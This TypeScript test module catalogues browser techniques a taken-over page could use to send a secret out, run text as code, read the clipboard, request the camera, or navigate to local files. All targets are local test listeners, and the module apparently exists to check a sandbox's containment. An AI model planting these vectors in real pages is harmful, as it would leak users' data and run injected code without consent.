// Ways in which a page that somebody else has taken over would send a word out of the window, keep it, or run text as
// code. Each is a function that is sent to the page as its source: it may use nothing but what it is given. What it
// returns counts: `true` is a success of its own; most are seen by a listener, or by the shell, instead.

export interface Given {
  /** Where it would go: an address of this try alone, such as http://127.0.0.1:4711/fetch. */
  to: string
  /** The word that must not leave. */
  word: string
  /** Where a connection alone is heard, whatever is or is not asked over it. */
  aside: string
  /** The port on which datagrams are awaited. */
  udp: number
  /** Makes an element and puts it into the page. */
  put: (tag: string, attributes: Record<string, string>, text?: string) => HTMLElement
  /** Assigns markup as a stranger's script would. */
  markup: (element: HTMLElement, text: string) => void
  /** Ends when the event comes, or after the patience of a try. */
  heard: (target: EventTarget, name: string) => Promise<unknown>
}

export type Try = (given: Given) => unknown

/** Requests that a page can make by itself. Seen by the listener. */
export const REQUESTS: Record<string, Try> = {
  fetch: ({ to }) => fetch(to, { mode: 'no-cors' }),
  'fetch-post': ({ to, word }) => fetch(to, { mode: 'no-cors', method: 'POST', body: word, keepalive: true }),
  xhr: ({ to }) => {
    const request = new XMLHttpRequest()
    request.open('GET', to)
    request.send()
  },
  websocket: ({ to }) => void new WebSocket(to.replace('http', 'ws')),
  eventsource: ({ to }) => void new EventSource(to),
  beacon: ({ to, word }) => void navigator.sendBeacon(to, word),
  image: ({ to }) => void (new Image().src = to),
  'image-srcset': ({ put, to }) => put('img', { srcset: `${to} 1x` }),
  stylesheet: ({ put, to }) => put('link', { rel: 'stylesheet', href: to }),
  'css-import': ({ put, to }) => put('style', {}, `@import url("${to}");`),
  'css-url': ({ put, to }) => put('p', { style: `background-image:url("${to}")` }, 'x'),
  'css-constructed': ({ put, to }) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`#constructed { background-image: url("${to}") }`)
    document.adoptedStyleSheets.push(sheet)
    put('p', { id: 'constructed' }, 'x')
  },
  fontface: ({ to }) => new FontFace('away', `url("${to}")`).load(),
  preload: ({ put, to }) => put('link', { rel: 'preload', as: 'image', href: to }),
  modulepreload: ({ put, to }) => put('link', { rel: 'modulepreload', href: to }),
  prefetch: ({ put, to }) => put('link', { rel: 'prefetch', href: to }),
  preconnect: ({ put, aside }) => put('link', { rel: 'preconnect', href: aside }),
  'dns-prefetch': ({ put, to }) => put('link', { rel: 'dns-prefetch', href: to }),
  speculation: ({ put, to }) =>
    put(
      'script',
      { type: 'speculationrules' },
      JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }] }),
    ),
  icon: ({ put, to }) => put('link', { rel: 'icon', href: to }),
  manifest: ({ put, to }) => put('link', { rel: 'manifest', href: to }),
  script: ({ put, to }) => put('script', { src: to }),
  'module-script': ({ put, to }) => put('script', { type: 'module', src: to }),
  'dynamic-import': ({ to }) => import(/* @vite-ignore */ to),
  iframe: ({ put, to }) => put('iframe', { src: to }),
  'iframe-markup': ({ put, markup, to }) => markup(put('div', {}), `<iframe src="${to}"></iframe>`),
  object: ({ put, to }) => put('object', { data: to, type: 'text/html' }),
  embed: ({ put, to }) => put('embed', { src: to, type: 'text/html' }),
  video: ({ put, to }) => put('video', { src: to, preload: 'auto' }),
  'video-poster': ({ put, to }) => put('video', { poster: to }),
  audio: ({ put, to }) => put('audio', { src: to, preload: 'auto' }),
  track: ({ put, to }) => {
    const video = put('video', { crossorigin: 'anonymous' }) as HTMLVideoElement
    const track = document.createElement('track')
    Object.assign(track, { kind: 'captions', default: true, src: to })
    video.append(track)
    track.track.mode = 'showing'
  },
  'svg-image': ({ put, to }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
    image.setAttribute('href', to)
    svg.append(image)
    put('div', {}).append(svg)
  },
  'svg-filter': ({ put, to }) => {
    const space = 'http://www.w3.org/2000/svg'
    const [svg, filter, image] = ['svg', 'filter', 'feImage'].map((name) =>
      document.createElementNS(space, name),
    )
    image?.setAttribute('href', to)
    filter?.setAttribute('id', 'away')
    if (image) filter?.append(image)
    if (filter) svg?.append(filter)
    if (svg) put('div', {}).append(svg)
    put('p', { style: 'filter:url(#away)' }, 'x')
  },
  worker: ({ to }) => void new Worker(new URL(to).pathname),
  'shared-worker': ({ to }) => void new SharedWorker(new URL(to).pathname),
  'blob-worker': ({ to }) => {
    const text = `fetch(${JSON.stringify(to)}, { mode: 'no-cors' })`
    return void new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })))
  },
  'import-scripts': ({ to }) => {
    const text = `importScripts(${JSON.stringify(to)})`
    return void new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })))
  },
  'blob-frame': ({ put, to }) => {
    const page = new Blob([`<img src="${to}">`], { type: 'text/html' })
    put('iframe', { src: URL.createObjectURL(page) })
  },
  'data-frame': ({ put, to }) => put('iframe', { src: `data:text/html,<img src="${to}">` }),
  'ping-link': ({ put, to }) => put('a', { href: '#ping', ping: to }, 'x').click(),
  'form-frame': ({ put, to }) => {
    put('iframe', { name: 'into' })
    const form = put('form', { action: to, method: 'post', target: 'into' }) as HTMLFormElement
    form.submit()
  },
  'window-open': ({ to }) => void window.open(to),
  'link-new-window': ({ put, to }) => put('a', { href: to, target: '_blank', rel: 'opener' }, 'x').click(),
  'download-data': ({ put, word }) =>
    put('a', { href: `data:text/plain,${word}`, download: 'page.txt' }, 'x').click(),
  'webrtc-stun': async ({ udp }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] })
    connection.createDataChannel('x')
    await connection.setLocalDescription(await connection.createOffer())
  },
  webtransport: ({ udp }) => new WebTransport(`https://127.0.0.1:${udp}/`).ready,
}

/** What a page can do to keep a word, to take one, or to run text as code. `true` when it could. */
export const DEEDS: Record<string, Try> = {
  eval: () => (0, eval)('true'),
  function: () => new Function('return true')(),
  'inline-script': ({ put }) => {
    put('script', {}, 'window.ranInline = true')
    return Reflect.get(window, 'ranInline') === true
  },
  'timer-text': ({ heard }) => {
    Reflect.apply(setTimeout, window, ['window.dispatchEvent(new Event("ran-text"))', 0])
    return heard(window, 'ran-text')
  },
  'markup-handler': ({ put, markup, heard }) => {
    markup(put('div', {}), '<img src="data:," onerror="window.dispatchEvent(new Event(\'ran-markup\'))">')
    return heard(window, 'ran-markup')
  },
  'javascript-link': ({ put, heard }) => {
    put('a', { href: 'javascript:window.dispatchEvent(new Event("ran-link"))' }, 'x').click()
    return heard(window, 'ran-link')
  },
  webassembly: () =>
    WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then((module) => Boolean(module)),
  'service-worker': ({ to }) => navigator.serviceWorker.register(new URL(to).pathname).then(Boolean),
  notification: ({ word }) =>
    Notification.requestPermission().then(
      (answer) => answer === 'granted' && Boolean(new Notification(word)),
    ),
  geolocation: () =>
    navigator.permissions.query({ name: 'geolocation' }).then(({ state }) => state !== 'denied'),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true, audio: true }).then(Boolean),
  screen: () => navigator.mediaDevices.getDisplayMedia().then(Boolean),
  'clipboard-read': () => navigator.clipboard.readText().then(() => true),
  'clipboard-paste': ({ put }) => {
    const field = put('textarea', {}) as HTMLTextAreaElement
    field.focus()
    document.execCommand('paste')
    return field.value !== ''
  },
  title: ({ word }) => void (document.title = word),
  storage: ({ word }) => {
    localStorage.setItem('kept', word)
    document.cookie = `kept=${word}; max-age=9999`
  },
  database: async ({ word, heard }) => {
    const asked = indexedDB.open('kept', 1)
    asked.onupgradeneeded = () => asked.result.createObjectStore('kept').put(word, 'kept')
    await heard(asked, 'success')
    asked.result.close()
  },
  cache: async ({ word }) => (await caches.open('kept')).put(`https://127.0.0.1/${word}`, new Response(word)),
}

/** What takes the page itself away, each tried alone. Seen by its address, or by the listener. */
export const JOURNEYS: Record<string, Try> = {
  location: ({ to }) => location.assign(to),
  download: ({ put, to }) => put('a', { href: to, download: 'page.txt' }, 'x').click(),
  'location-file': () => location.assign('file:///etc/hostname'),
  'location-data': ({ to }) => location.assign(`data:text/html,<img src="${to}">`),
  'location-blob': ({ to }) => {
    location.assign(URL.createObjectURL(new Blob([`<img src="${to}">`], { type: 'text/html' })))
  },
  'location-source': () => location.assign('view-source:http://127.0.0.1/'),
  mailto: ({ word }) => location.assign(`mailto:${word}@example.org`),
  'meta-refresh': ({ put, to }) => put('meta', { 'http-equiv': 'refresh', content: `0;url=${to}` }),
  'form-submit': ({ put, to }) => (put('form', { action: to }) as HTMLFormElement).submit(),
  'base-link': ({ put, to }) => {
    put('base', { href: to })
    put('a', { href: '' }, 'x').click()
  },
}
